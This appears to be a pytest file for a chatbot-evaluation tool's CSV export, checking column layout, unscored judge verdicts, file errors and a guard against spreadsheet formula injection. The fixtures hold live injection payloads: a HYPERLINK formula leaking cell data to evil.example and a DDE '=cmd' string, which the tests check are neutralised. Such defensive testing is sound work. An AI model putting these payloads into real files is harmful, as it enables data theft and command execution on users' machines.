"""Tests for the CSV export (export.py): layout, formula-injection guard, unscored turns, files."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from ragtui.core.store.export import header, safe_cell, sessions_to_csv, write_csv
from ragtui.core.store.store import Store
from ragtui.core.types.errors import RagtuiError
from ragtui.core.types.judgments import Judgment
from ragtui.core.types.personas import Persona
from ragtui.core.types.stored import StoredSession

PLAIN = [
    "run",
    "scenario",
    "persona",
    "trial",
    "language",
    "date",
    "customer_model",
    "bot_model",
    "judge_model",
    "judge_agreement",
]
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = Store.open(tmp_path / "t.db")
    yield s
    s.close()


def new_session(store: Store, persona: str = "calm") -> int:
    return store.create_session(
        scenario={"id": "id-linking", "question": "How do I link?"},
        persona=Persona(persona, "en", "- polite"),
        config={"roles": {"user": {"model": "fake-user"}, "bot": {"model": "fake-bot"}, "judge": {"model": "j"}}},
        language="en",
        max_turns=3,
        threshold=0.7,
        metrics=["rubric"],
    )


def scored(score: float) -> Judgment:
    return Judgment(metric="rubric", score=score, details={"overall": 4, "comment": "fine"}, raw_reply="{...}")


def unscored(raw: str = "Sorry, I will not answer in JSON.") -> Judgment:
    return Judgment(metric="rubric", score=None, raw_reply=raw, error="no JSON object", attempts=2)


@pytest.fixture
def sessions(store: Store) -> list[StoredSession]:
    """Two dialogues: a finished two-turn one (turn 2 unscored) and a one-turn one."""
    first = new_session(store)
    store.add_message(first, 1, "user", "scenario", "How do I link?")
    bot1 = store.add_message(first, 1, "bot", "bot", "Go to Settings, then Linked services.")
    store.add_judgment(first, bot1, 1, scored(0.25))
    store.add_judgment(first, bot1, 1, scored(0.75))  # re-judged: the newest version is exported
    store.add_message(first, 2, "user", "simulator", "+1 that did not work, line two\nline three")
    bot2 = store.add_message(first, 2, "bot", "bot", MALICIOUS)
    store.add_judgment(first, bot2, 2, unscored())
    store.refresh_score(first, "rubric")
    store.set_status(first, "finished", "done")

    second = new_session(store, persona="angry")
    store.add_message(second, 1, "user", "scenario", "@admin fix it")
    store.add_message(second, 1, "bot", "bot", "Sorry about that.")
    return [store.session(first), store.session(second)]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_formula_starts(start: str) -> None:
    value = f"{start}SUM(A1:A9)"
    # A carriage return is no control a CSV cell may carry: it becomes a newline.
    assert safe_cell(value) == "'" + value.replace("\r", "\n")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("hello", "hello"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (0.5, "0.5"),
        ("'already quoted", "'already quoted"),
        ("パスワード", "パスワード"),
    ],
)
def test_safe_cell_leaves_other_values(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_header() -> None:
    assert header(3) == [
        "config",
        "user1",
        "assistant1",
        "check1",
        "user2",
        "assistant2",
        "check2",
        "user3",
        "assistant3",
        "check3",
        "score1",
        "score2",
        "score3",
        "score",
        "stop_reason",
        "unscored_turns",
        "session_id",
        "cut_by_token_limit",
        "cut_at_reply_timeout",
        *PLAIN,
        "check1_json",
        "check2_json",
        "check3_json",
    ]
    assert header(0) == [
        "config",
        "score",
        "stop_reason",
        "unscored_turns",
        "session_id",
        "cut_by_token_limit",
        "cut_at_reply_timeout",
        *PLAIN,
    ]


def test_sessions_to_csv_layout(sessions: list[StoredSession]) -> None:
    head, first, second = parse(sessions_to_csv(sessions))
    assert head == header(2)
    row = dict(zip(head, first, strict=True))
    config = json.loads(row["config"])
    assert config["persona"] == "calm"
    assert config["scenario"] == "id-linking"
    assert config["models"] == {"user": "fake-user", "bot": "fake-bot", "judge": "j"}
    assert row["user1"] == "How do I link?"
    assert row["assistant1"] == "Go to Settings, then Linked services."
    assert row["user2"] == "'+1 that did not work, line two\nline three"
    assert row["score1"] == "0.75"
    assert row["check1"] == "0.75 (4.0/5)"  # short and readable; the JSON has its own column
    assert json.loads(row["check1_json"]) == {"overall": 4, "comment": "fine", "score": 0.75, "version": 2}
    assert row["score"] == "0.75"
    assert row["stop_reason"] == "done"
    assert row["unscored_turns"] == "1"
    assert row["session_id"] == str(sessions[0].id)


def test_formula_in_bot_reply_is_neutralised(sessions: list[StoredSession]) -> None:
    """A bot (or customer) reply must never become a live formula in a spreadsheet."""
    head, first, second = parse(sessions_to_csv(sessions))
    assert dict(zip(head, first, strict=True))["assistant2"] == "'" + MALICIOUS
    assert dict(zip(head, second, strict=True))["user1"] == "'@admin fix it"
    for row in (first, second):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_unscored_turn_is_never_zero(sessions: list[StoredSession]) -> None:
    """An unscored verdict says "unscored" and keeps the judge's reply; it is not exported as 0."""
    head, first, _ = parse(sessions_to_csv(sessions))
    row = dict(zip(head, first, strict=True))
    assert row["check2"] == "unscored: no JSON object"
    assert "Sorry, I will not answer in JSON." in row["check2_json"]
    check = json.loads(row["check2_json"])
    assert check == {
        "status": "unscored",
        "error": "no JSON object",
        "raw_reply": "Sorry, I will not answer in JSON.",
        "version": 1,
    }
    assert row["score2"] == "unscored"


def test_shorter_and_unjudged_sessions(sessions: list[StoredSession]) -> None:
    """Turns a dialogue did not reach are empty; a dialogue with no scores says "unscored"."""
    head, _, second = parse(sessions_to_csv(sessions))
    row = dict(zip(head, second, strict=True))
    assert row["assistant1"] == "Sorry about that."
    assert row["check1"] == ""
    assert row["score1"] == ""
    assert (row["user2"], row["assistant2"], row["check2"], row["score2"]) == ("", "", "", "")
    assert (row["check1_json"], row["check2_json"]) == ("", "")
    assert row["score"] == "unscored"
    assert row["stop_reason"] == "running"
    assert row["unscored_turns"] == "0"


def test_no_sessions() -> None:
    assert parse(sessions_to_csv([])) == [header(0)]


def test_write_csv_round_trip(sessions: list[StoredSession], tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(sessions, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    assert raw.count(b"\xef\xbb\xbf") == 1
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == parse(sessions_to_csv(sessions))
    assert rows[0][0] == "config"
    assert len(rows) == 3


def test_write_csv_japanese(store: Store, tmp_path: Path) -> None:
    sid = new_session(store)
    store.add_message(sid, 1, "user", "scenario", "ID連携の方法は？")
    path = tmp_path / "ja.csv"
    write_csv([store.session(sid)], path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][1] == "ID連携の方法は？"


def test_write_csv_to_directory_fails_cleanly(sessions: list[StoredSession], tmp_path: Path) -> None:
    target = tmp_path / "folder"
    target.mkdir()
    with pytest.raises(RagtuiError) as info:
        write_csv(sessions, target)
    assert str(target) in str(info.value) and "--csv" in str(info.value)
    assert "nothing was written" in info.value.hint


def test_write_csv_to_missing_folder_fails_cleanly(sessions: list[StoredSession], tmp_path: Path) -> None:
    with pytest.raises(RagtuiError, match="does not exist"):
        write_csv(sessions, tmp_path / "no" / "such" / "out.csv")
    assert not (tmp_path / "no").exists()


def test_plain_columns_for_a_spreadsheet(store: Store, sessions: list[StoredSession]) -> None:
    """Run, scenario, persona, language, date and each role's model are plain cells, not only
    inside the config JSON; the check cell is one readable line with the conclusion."""
    store._db.execute("UPDATE sessions SET run_id = 'r-42' WHERE id = ?", (sessions[0].id,))
    store._db.commit()
    bot = next(m for m in sessions[1].messages if m.role == "bot")
    details = {"overall": 2.4, "conclusion": "Partly answers;\nmisses the steps."}
    store.add_judgment(sessions[1].id, bot.id, 1, Judgment(metric="rubric", score=0.48, details=details))
    head, first, second = parse(sessions_to_csv([store.session(sessions[0].id), store.session(sessions[1].id)]))
    row = dict(zip(head, first, strict=True))
    assert (row["run"], row["scenario"], row["persona"], row["language"]) == ("r-42", "id-linking", "calm", "en")
    assert row["date"] == sessions[0].created_at
    assert (row["customer_model"], row["bot_model"], row["judge_model"]) == ("fake-user", "fake-bot", "j")
    other = dict(zip(head, second, strict=True))
    assert other["persona"] == "angry" and other["run"] == ""
    assert other["check1"] == "0.48 (2.4/5): Partly answers; misses the steps."
    assert json.loads(other["check1_json"])["conclusion"] == "Partly answers;\nmisses the steps."


def test_judge_agreement_column_names_the_measured_figure_or_unmeasured(store: Store) -> None:
    measured = new_session(store)
    store.add_message(measured, 1, "user", "scenario", "How do I link?")
    bot = store.add_message(measured, 1, "bot", "bot", "=cmd|' /C calc'!A0")
    entry = {"metric": "rubric", "figure": "spearman", "value": 0.1, "n": 18, "on": "=labels.jsonl"}
    store.add_judgment(measured, bot, 1, Judgment("rubric", 0.4, details={"agreement": entry}))
    store.refresh_score(measured, "rubric")
    plain = new_session(store)
    store.add_message(plain, 1, "user", "scenario", "How do I link?")
    store.add_judgment(plain, store.add_message(plain, 1, "bot", "bot", "Hi"), 1, scored(0.8))
    store.refresh_score(plain, "rubric")
    empty = new_session(store)  # no verdict: nothing to say
    rows = list(csv.DictReader(io.StringIO(sessions_to_csv([store.session(i) for i in (measured, plain, empty)]))))
    assert [r["judge_agreement"] for r in rows] == ["Spearman 0.10 (n=18)", "unmeasured", ""]
